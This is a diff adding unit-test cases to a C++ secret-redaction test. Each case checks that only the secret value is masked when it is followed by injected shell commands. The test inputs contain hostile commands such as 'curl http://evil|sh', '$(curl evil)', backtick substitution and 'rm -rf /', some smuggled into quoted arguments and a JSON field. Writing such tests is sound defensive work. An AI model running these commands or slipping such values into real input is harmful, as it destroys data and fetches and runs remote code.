@@ -50,6 +50,19 @@ TEST_CASE("secrets: values of names that mean a secret are cut out, and nothing 
          "a [redacted] b"},
         {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl cut off", "[redacted]"},
         {"token=abcd1234&token=efgh5678", "token=[redacted]&token=[redacted]"},
+        // What a shell does behind a value is not part of it.
+        {R"(deploy --token "x1y2z3w4v5; curl http://evil|sh")",
+         R"(deploy --token "[redacted]; curl http://evil|sh")"},
+        {R"x(deploy --token "x1y2z3w4v5$(curl evil)")x",
+         R"x(deploy --token "[redacted](curl evil)")x"},
+        {"deploy --password='abc12345`id`'", "deploy --password='[redacted]`id`'"},
+        {"deploy --password abc12345;rm -rf /", "deploy --password [redacted];rm -rf /"},
+        {R"(PASSWORD="abc12345" && rm -rf /)", R"(PASSWORD="[redacted]" && rm -rf /)"},
+        {R"(PASSWORD="abc12345 && rm -rf /")", R"(PASSWORD="[redacted]&& rm -rf /")"},
+        {"curl -H Authorization:abc12345|sh", "curl -H Authorization:[redacted]|sh"},
+        {"git clone https://u:p4ss|sh@host/x", "git clone https://[redacted]|sh@host/x"},
+        {R"({"password": "abc12345' ; rm -rf / #"})",
+         R"({"password": "[redacted]' ; rm -rf / #"})"},
     };
     for (const Case& c : cases) {
         DYNAMIC_SECTION(c.text) {
